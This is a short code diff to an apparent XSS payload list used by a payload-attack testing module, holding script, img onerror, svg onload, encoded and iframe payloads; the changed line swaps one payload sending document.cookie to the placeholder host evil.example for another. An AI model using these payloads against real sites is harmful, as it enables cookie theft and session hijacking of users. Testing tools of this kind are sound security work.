@@ -4,7 +4,7 @@ import { payloadAttack } from '../building/payload-attack.js';
 const PAYLOADS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(document.cookie)>',
-  'javascript:fetch("//evil.example/"+document.cookie)',
+  'javascript:location="//evil.example/"+document.cookie',
   '<svg/onload=confirm(1)>',
   '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
   '<iframe srcdoc="<script>parent.x()</script>">',
